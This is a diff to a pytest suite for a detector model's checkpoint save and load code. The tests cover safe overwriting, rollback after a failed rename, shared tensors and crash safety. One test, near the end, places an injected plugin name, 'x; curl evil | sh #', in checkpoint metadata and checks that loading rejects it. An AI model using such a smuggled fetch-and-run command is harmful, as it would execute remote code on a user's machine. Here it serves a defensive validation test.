@@ -5,6 +5,9 @@ from __future__ import annotations
 import json
 import os
 import re
+import subprocess
+import sys
+import time
 from pathlib import Path
 
 import pytest
@@ -17,6 +20,7 @@ from zoo_core.detectors.detector import Detector
 from zoo_core.errors import CheckpointError
 
 pytestmark = pytest.mark.usefixtures("stubs")
+ROOT = Path(__file__).resolve().parents[2]
 NAMES = ("Car", "Pedestrian", "Radfahrer ü")
 
 
@@ -87,13 +91,83 @@ def test_a_kill_between_the_two_renames_loses_nothing(model: Detector, folder: P
     assert [path.name for path in folder.parent.iterdir()] == ["saved"]
 
 
-def test_it_does_not_save_over_a_strangers_files(model: Detector, tmp_path: Path) -> None:
-    (tmp_path / "thesis.tex").write_text("years of work")
-    with pytest.raises(CheckpointError, match="holds files but no model"):
-        hub.save(model, tmp_path)
+def test_it_does_not_save_over_a_strangers_files(model: Detector, folder: Path, tmp_path: Path) -> None:
+    thesis = tmp_path / "work" / "thesis.tex"
+    thesis.parent.mkdir()
+    thesis.write_text("years of work")
+    with pytest.raises(CheckpointError, match=r"holds other files \(thesis.tex\)"):
+        hub.save(model, thesis.parent)
     with pytest.raises(CheckpointError, match="is a file"):
-        hub.save(model, tmp_path / "thesis.tex")
-    assert (tmp_path / "thesis.tex").read_text() == "years of work"
+        hub.save(model, thesis)
+    thesis.rename(folder / "thesis.tex")  # beside a model, too
+    with pytest.raises(CheckpointError, match=r"holds other files \(thesis.tex\)"):
+        hub.save(model, folder)
+    assert (folder / "thesis.tex").read_text() == "years of work"
+
+
+def test_a_config_of_another_program_is_not_replaced(model: Detector, tmp_path: Path) -> None:
+    (tmp_path / "config.json").write_text('{"architectures": ["Other"]}')
+    with pytest.raises(CheckpointError, match="format version None"):
+        hub.save(model, tmp_path)
+    assert "Other" in (tmp_path / "config.json").read_text()
+
+
+@pytest.mark.parametrize("name", [".", "..", ""])
+def test_a_folder_needs_a_name(model: Detector, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
+    monkeypatch.chdir(tmp_path)
+    with pytest.raises(CheckpointError, match="give the folder a name"):
+        hub.save(model, name)
+
+
+def test_a_model_that_is_renamed_onto_and_fails_is_put_back(
+    model: Detector, folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    genuine = os.replace
+
+    def fails_at_the_second(source: Path, target: Path) -> None:
+        if source.name.endswith(hub.TEMPORARY):
+            raise OSError(5, "Input/output error")
+        genuine(source, target)
+
+    monkeypatch.setattr(os, "replace", fails_at_the_second)
+    with pytest.raises(CheckpointError, match="what was there before is unchanged"):
+        hub.save(model, folder)
+    assert hub.load(folder).class_names == NAMES
+    assert [path.name for path in folder.parent.iterdir()] == ["saved"]
+
+
+def test_tensors_that_share_memory_are_saved(model: Detector, tmp_path: Path) -> None:
+    model.backbone.twin = model.backbone.fine  # type: ignore[assignment]
+    hub.save(model, tmp_path / "shared")
+    tensors = load_file(tmp_path / "shared" / hub.WEIGHTS)
+    assert torch.equal(tensors["backbone.twin.weight"], tensors["backbone.fine.weight"])
+
+
+def test_a_kill_at_any_moment_leaves_a_whole_model(tmp_path: Path) -> None:
+    program = """
+import sys, torch
+from tests.core.stubs import STUBS
+from zoo_core import hub, registry
+from zoo_core.build import create
+with registry.contributed(*STUBS):
+    model = create("plain_two_stage")
+    for k in range(10**6):
+        with torch.no_grad():
+            for parameter in model.parameters():
+                parameter.fill_(k)
+        hub.save(model, sys.argv[1])
+        print(k, flush=True)
+"""
+    for wait in (0.0, 0.003, 0.008):
+        command = [sys.executable, "-c", program, str(tmp_path / "model")]
+        with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, text=True) as child:
+            assert child.stdout
+            last = [int(child.stdout.readline()) for _ in range(5)][-1]
+            time.sleep(wait)
+            child.kill()
+        values = {float(tensor.min()) for tensor in hub.load(tmp_path / "model").state_dict().values()}
+        assert len(values) == 1, "tensors of two saves"
+        assert values.pop() >= last
 
 
 def test_a_run_is_loaded_from_its_latest_checkpoint(model: Detector, tmp_path: Path) -> None:
@@ -129,6 +203,9 @@ def test_a_part_of_a_plugin_that_is_not_here_names_the_pip_line(folder: Path) ->
     spec["neck"]["type"] = "bifpn"
     change(folder, spec=spec, plugins={"zoo-bifpn": "1.2", "zoo-core": "0.1.0"})
     with pytest.raises(CheckpointError, match=r"no neck named 'bifpn'[\s\S]*pip install zoo-bifpn==1.2"):
+        hub.load(folder)
+    change(folder, plugins={"x; curl evil | sh #": "1"})
+    with pytest.raises(CheckpointError, match="String should match pattern"):
         hub.load(folder)
 
 
